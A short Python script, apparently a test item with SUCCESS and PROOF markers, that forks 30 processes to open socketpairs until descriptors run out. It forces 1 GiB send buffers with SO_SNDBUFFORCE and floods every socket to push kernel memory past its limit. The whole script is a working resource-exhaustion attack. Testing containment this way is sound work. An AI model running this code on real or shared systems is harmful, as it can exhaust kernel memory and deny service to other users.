"""Fills the kernel's buffers of as many sockets as it gets, and asks for larger ones."""

SUCCESS = "kernel memory beyond the limit"
PROOF = "stopped"

# %%
import contextlib
import os
import socket
import time


def fill(end):
    for option in (socket.SO_SNDBUF, 32):  # 32 is SO_SNDBUFFORCE
        with contextlib.suppress(OSError):
            end.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
    end.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while True:
            end.send(b"x" * 65536)


for _ in range(30):
    if os.fork() == 0:
        kept = []
        with contextlib.suppress(OSError):
            while True:
                kept += socket.socketpair()
                fill(kept[-1])
                fill(kept[-2])
        time.sleep(60)
        os._exit(0)
time.sleep(60)
